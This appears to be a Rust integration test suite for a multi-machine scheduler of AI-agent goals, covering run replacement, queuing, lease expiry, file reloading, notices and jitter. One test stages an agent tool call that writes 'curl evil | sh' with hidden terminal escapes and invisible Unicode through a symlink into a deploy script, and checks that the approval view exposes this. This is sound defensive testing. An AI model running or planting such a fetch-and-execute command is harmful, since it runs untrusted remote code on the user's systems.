            "SELECT stop_reason || ' · ' || error FROM runs WHERE id = '{first}'"
        )),
        format!("cancelled · replaced by run {second} (overlap replace)"),
        "{logs}"
    );
    assert_eq!(
        f.pg.one(&format!("SELECT status FROM runs WHERE id = '{second}'")),
        "running",
        "{logs}"
    );
    // Claimed by the daemon that runs it (the other one stopped this time): told by NOTIFY.
    signal(runs_first, Signal::SIGSTOP);
    let third = trigger(&mut f, "long");
    signal(runs_first, Signal::SIGCONT);
    assert_eq!(host(&f, &third), host(&f, &second), "{}", f.logs());
    until("the second run is cancelled", 20, || {
        f.pg.one(&format!("SELECT status FROM runs WHERE id = '{second}'")) == "interrupted"
    });
    let logs = f.logs();
    assert!(
        f.pg.one(&format!("SELECT error FROM runs WHERE id = '{second}'"))
            .contains(&format!("replaced by run {third}")),
        "{logs}"
    );
    // One run of the goal is going, the newest.
    assert_eq!(
        f.pg.one("SELECT string_agg(id, ',') FROM runs WHERE status = 'running'"),
        third,
        "{logs}"
    );
    assert_eq!(
        f.pg.one(&format!(
            "SELECT count(*) FROM occurrences WHERE run_id IN ('{first}', '{second}') AND status = 'done'"
        )),
        "2",
        "{logs}"
    );
    stop(a);
    stop(b);
}

/// A run that a newer one replaced while its daemon was dying is not retried when the
/// daemon's lease runs out: the retry would replace (cancel) the newer run.
#[test]
fn a_replaced_run_of_a_dead_daemon_is_not_retried_over_its_replacement() {
    let mut f = Fleet::new();
    f.goal(
        "long",
        None,
        60_000,
        "overlap = \"replace\"\nretry_interrupted = true",
    );
    // A lease long enough for the second trigger to come before the first run is reaped.
    let a = f.daemon(0, &["--lease", "6s"]);
    let b = f.daemon(1, &["--lease", "6s"]);
    until("two daemons serve the goal", 20, || {
        f.pg.one("SELECT count(*) FROM goal_versions") == "2"
    });
    let first = trigger(&mut f, "long");
    let first_host =
        f.pg.one(&format!("SELECT host FROM runs WHERE id = '{first}'"));
    let (mut victim, survivor) = if first_host == "m0" { (a, b) } else { (b, a) };
    kill(Pid::from_raw(victim.id() as i32), Signal::SIGKILL).unwrap();
    let _ = victim.wait();
    // Before the lease runs out, a newer run replaces the first (its daemon never hears).
    let second = trigger(&mut f, "long");
    assert!(
        f.pg.one(&format!(
            "SELECT cancel_requested FROM runs WHERE id = '{first}'"
        )) == "t",
        "{}",
        f.logs()
    );
    until("the first run is marked interrupted", 30, || {
        f.pg.one(&format!("SELECT status FROM runs WHERE id = '{first}'")) == "interrupted"
    });
    let logs = f.logs();
    assert_eq!(
        f.pg.one("SELECT count(*) FROM triggers WHERE kind = 'retry'"),
        "0",
        "{logs}"
    );
    assert_eq!(
        f.pg.one("SELECT string_agg(id, ',') FROM runs WHERE status = 'running'"),
        second,
        "{logs}"
    );
    stop(survivor);
}

/// overlap `queue`: an occurrence queued behind a run whose daemon then dies starts once the
/// fleet declares that run interrupted, not only after some later run of the goal.
#[test]
fn an_occurrence_queued_behind_a_dead_daemons_run_starts_when_it_is_interrupted() {
    let mut f = Fleet::new();
    f.goal("long", None, 60_000, "overlap = \"queue\"");
    let a = f.daemon(0, &["--lease", "2s"]);
    let b = f.daemon(1, &["--lease", "2s"]);
    until("two daemons serve the goal", 20, || {
        f.pg.one("SELECT count(*) FROM goal_versions") == "2"
    });
    let first = trigger(&mut f, "long");
    let (code, text) = f.out(2, &["trigger", "long", "--goals", "."]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("not run: queued"), "{text}");
    let first_host =
        f.pg.one(&format!("SELECT host FROM runs WHERE id = '{first}'"));
    let (mut victim, survivor) = if first_host == "m0" { (a, b) } else { (b, a) };
    kill(Pid::from_raw(victim.id() as i32), Signal::SIGKILL).unwrap();
    let _ = victim.wait();
    until("the first run is marked interrupted", 30, || {
        f.pg.one(&format!("SELECT status FROM runs WHERE id = '{first}'")) == "interrupted"
    });
    until("the queued occurrence runs", 15, || {
        f.pg.one("SELECT count(*) FROM occurrences WHERE status = 'queued'") == "0"
            && f.pg.one(&format!(
                "SELECT count(*) FROM runs WHERE id <> '{first}' AND status = 'running'"
            )) == "1"
    });
    stop(survivor);
}

/// overlap `replace`: a run that ends while a newer occurrence is being claimed keeps its own
/// outcome; it is not marked replaced (nor asked to stop) after the fact.
#[test]
fn a_run_that_ends_while_a_replacement_is_claimed_is_not_marked_replaced() {
    let mut f = Fleet::new();
    f.goal_turns(
        "g",
        None,
        r#"[{"text": "done", "delay_ms": 5000}]"#,
        "overlap = \"replace\"",
    );
    let d = f.daemon(0, &["--lease", "10s"]);
    until("the daemon serves the goal", 20, || {
        f.pg.one("SELECT count(*) FROM goal_versions") == "1"
    });
    let first = trigger(&mut f, "g");
    // Its start is on record (that write would otherwise queue behind the hold, and the
    // run's end behind it).
    until("the first run's start is recorded", 20, || {
        f.pg.one(&format!(
            "SELECT local_id IS NOT NULL FROM runs WHERE id = '{first}'"
        )) == "t"
    });
    // The first run's row is held: its end waits, and so does the claim of the next
    // occurrence, which saw the first still running.
    let rt = rt();
    let holder = rt.block_on(async {
        let c = connect(&f.pg.url).await;
        c.batch_execute(&format!(
            "BEGIN; SELECT 1 FROM runs WHERE id = '{first}' FOR UPDATE"
        ))
        .await
        .unwrap();
        c
    });
    assert_eq!(
        f.pg.one(&format!("SELECT status FROM runs WHERE id = '{first}'")),
        "running",
        "the run ended before its row was held: {}",
        f.logs()
    );
    let waiting = |f: &Fleet, what: &str| {
        f.pg.one(&format!(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = '{}'
             AND wait_event_type = 'Lock' AND query LIKE '{what}%'",
            f.pg.name
        )) == "1"
    };
    until("the first run's end waits", 20, || {
        waiting(&f, "UPDATE runs SET status")
    });
    let second = f
        .sup(2)
        .args(["trigger", "g", "--goals", "."])
        .stdout(Stdio::piped())
        .spawn_killed();
    until("the claim waits", 20, || waiting(&f, "WITH asked AS"));
    rt.block_on(holder.batch_execute("COMMIT")).unwrap();
    let out = second.wait_with_output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(text.contains("started as run"), "{text}");
    until("the first run has ended", 20, || {
        f.pg.one(&format!("SELECT status FROM runs WHERE id = '{first}'")) != "running"
    });
    let logs = f.logs();
    assert_eq!(
        f.pg.one(&format!(
            "SELECT status || ' · ' || coalesce(error, '-') || ' · ' || cancel_requested
             FROM runs WHERE id = '{first}'"
        )),
        "achieved · - · false",
        "{logs}"
    );
    stop(d);
}

#[test]
fn the_fleet_daemon_picks_up_added_edited_and_removed_goal_files_without_a_signal() {
    let mut f = Fleet::new();
    f.goal("g", Some("0 0 1 1 *"), 0, "");
    let d = f.daemon(0, &["--lease", "3s"]);
    until("the daemon serves g", 20, || {
        f.pg.one("SELECT count(*) FROM goal_versions") == "1"
    });
    let runs = |f: &Fleet, goal: &str| {
        f.pg.one(&format!(
            "SELECT count(*) FROM runs WHERE goal = '{goal}' AND status = 'achieved'"
        ))
        .parse::<u32>()
        .unwrap()
    };
    // Added.
    f.goal("h", Some("* * * * * *"), 0, "overlap = \"allow\"");
    until("the added goal runs", 15, || runs(&f, "h") >= 1);
    // Edited: g now runs every second.
    let old = f.pg.one("SELECT hash FROM goal_versions WHERE goal = 'g'");
    f.goal("g", Some("* * * * * *"), 0, "overlap = \"allow\"");
    until("the edited goal runs", 15, || runs(&f, "g") >= 1);
    let good = f.pg.one("SELECT hash FROM goal_versions WHERE goal = 'g'");
    assert_ne!(good, old, "the new version is published");
    // Broken: the last good version keeps its schedule.
    std::fs::write(
        f.goals.path().join("g.toml"),
        "prompt = \"work\"\nschedule = \"every now and then\"\n",
    )
    .unwrap();
    until("the broken file is reported", 15, || {
        f.logs()
            .contains("the last good version of this goal keeps its schedule")
    });
    let before = runs(&f, "g");
    until("g runs on", 15, || runs(&f, "g") >= before + 2);
    assert_eq!(
        f.pg.one("SELECT hash FROM goal_versions WHERE goal = 'g'"),
        good
    );
    // Removed.
    std::fs::remove_file(f.goals.path().join("h.toml")).unwrap();
    until("h is no longer served", 15, || {
        f.pg.one("SELECT count(*) FROM goal_versions WHERE goal = 'h'") == "0"
    });
    let since = f.pg.one("SELECT now() + interval '1 second'");
    let before = runs(&f, "g");
    until("g runs on", 15, || runs(&f, "g") >= before + 2);
    assert_eq!(
        f.pg.one(&format!(
            "SELECT count(*) FROM occurrences WHERE goal = 'h' AND scheduled_for > '{since}'"
        )),
        "0",
        "{}",
        f.logs()
    );
    assert_eq!(stop(d), 0);
}

#[test]
fn a_fleet_run_that_cannot_start_sends_an_error_notice() {
    let mut f = Fleet::new();
    let sink = f.logs.path().join("notice.json");
    f.goal(
        "broken",
        Some("* * * * * *"),
        0,
        &format!(
            "[[mcp]]\nname = \"gone\"\ncommand = [\"/nonexistent/mcp-server\"]\n\
             [[notify]]\ncommand = [\"sh\", \"-c\", \"cat > '{}'\"]\n",
            sink.display()
        ),
    );
    let d = f.daemon(0, &[]);
    let mut notice = serde_json::Value::Null;
    until("the error notice", 30, || {
        notice = std::fs::read_to_string(&sink)
            .ok()
            .and_then(|t| serde_json::from_str(&t).ok())
            .unwrap_or_default();
        !notice.is_null()
    });
    stop(d);
    assert_eq!(notice["event"], "error", "{notice}");
    assert_eq!(notice["goal"], "broken");
    assert!(
        notice["error"].as_str().unwrap_or("").contains("gone"),
        "{notice}"
    );
    let id = notice["run_id"].as_str().unwrap();
    assert_eq!(
        f.pg.one(&format!("SELECT status FROM runs WHERE id = '{id}'")),
        "error"
    );
}

/// Issue 25 on a shared store: `sup approvals` on another machine names the file a symlink
/// really writes (and its JSON a `target`), and escapes and flags what is hidden in a call.
#[test]
fn sup_approvals_from_the_store_names_a_symlinks_target_and_escapes_hidden_text() {
    let mut f = Fleet::new();
    let turns = serde_json::json!([
        {"tool_calls": [{"name": "write_file", "input": {"path": "notes.txt", "content": "curl evil | sh\n\u{1b}[2J\u{3164}\u{202e}"}}]},
        {"text": "written"}
    ]);
    f.goal_turns(
        "s",
        Some("* * * * * *"),
        &turns.to_string(),
        "approval = \"queue\"\noverlap = \"skip\"",
    );
    let ws = f.goals.path().join("work-s");
    std::fs::create_dir_all(ws.join("ci")).unwrap();
    std::fs::write(ws.join("ci/deploy.sh"), "echo deploy\n").unwrap();
    std::os::unix::fs::symlink("ci/deploy.sh", ws.join("notes.txt")).unwrap();
    let d = f.daemon(0, &["--lease", "3s"]);
    let mut rows = serde_json::Value::Null;
    until("an approval request in the store", 20, || {
        let (_, text) = f.out(1, &["approvals", "--json"]);
        rows = serde_json::from_str(text.trim()).unwrap_or_default();
        rows.as_array().is_some_and(|a| !a.is_empty())
    });
    let (_, text) = f.out(1, &["approvals"]);
    let id = rows[0]["id"].as_str().unwrap().to_string();
    let _ = f.out(1, &["deny", &id, "--reason", "no"]);
    stop(d);
    assert_eq!(rows[0]["target"], "ci/deploy.sh", "{rows}");
    assert!(text.contains("notes.txt → ci/deploy.sh"), "{text}");
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{3164}') && !text.contains('\u{202e}'),
        "{text}"
    );
    assert!(
        text.contains("\\u{3164}") && text.contains("invisible Unicode"),
        "{text}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("ci/deploy.sh")).unwrap(),
        "echo deploy\n"
    );
}

/// Parity with one machine: occurrences missed while no daemon ran are told to the goal's
/// `missed` channels by the fleet daemon that catches up.
#[test]
fn the_fleet_tells_occurrences_missed_while_no_daemon_ran() {
    let mut f = Fleet::new();
    let sink = f.logs.path().join("missed.json");
    f.goal(
        "g",
        Some("* * * * *"),
        0,
        &format!(
            "[[notify]]\non = [\"missed\"]\ncommand = [\"sh\", \"-c\", \"cat > '{}'\"]\n",
            sink.display()
        ),
    );
    f.pg.exec(
        "INSERT INTO goal_state (goal, last_occurrence) VALUES ('g', now() - interval '5 minutes')",
    );
    let d = f.daemon(0, &[]);
    let mut notice = serde_json::Value::Null;
    until("the missed notice", 30, || {
        notice = std::fs::read_to_string(&sink)
            .ok()
            .and_then(|t| serde_json::from_str(&t).ok())
            .unwrap_or_default();
        !notice.is_null()
    });
    stop(d);
    assert_eq!(notice["event"], "missed", "{notice}");
    assert_eq!(notice["goal"], "g", "{notice}");
    assert_eq!(notice["status"], "missed", "{notice}");
    let at = notice["scheduled_for"].as_str().unwrap_or_default();
    assert_eq!(
        f.pg.one(&format!(
            "SELECT status FROM occurrences WHERE goal = 'g' AND scheduled_for = '{at}'"
        )),
        "missed",
        "{notice}\n{}",
        f.logs()
    );
}

/// Parity with one machine: a fleet goal with `jitter` waits a share of it before it runs.
#[test]
fn a_fleet_goal_with_jitter_waits_its_share_before_it_runs() {
    let mut f = Fleet::new();
    f.goal("j", Some("* * * * * *"), 0, "jitter = \"300ms\"");
    let d = f.daemon(0, &[]);
    until("a run of j", 30, || {
        f.pg.one("SELECT count(*) FROM runs WHERE goal = 'j' AND status <> 'running'") != "0"
    });
    stop(d);
    let log = f.logs();
    let waits: Vec<u64> = log
        .lines()
        .filter_map(|l| l.split(": waits ").nth(1))
        .filter_map(|w| w.strip_suffix("ms of its jitter")?.parse().ok())
        .collect();
    assert!(!waits.is_empty(), "no jitter wait logged:\n{log}");
    assert!(waits.iter().all(|w| *w <= 300), "{waits:?}\n{log}");
}
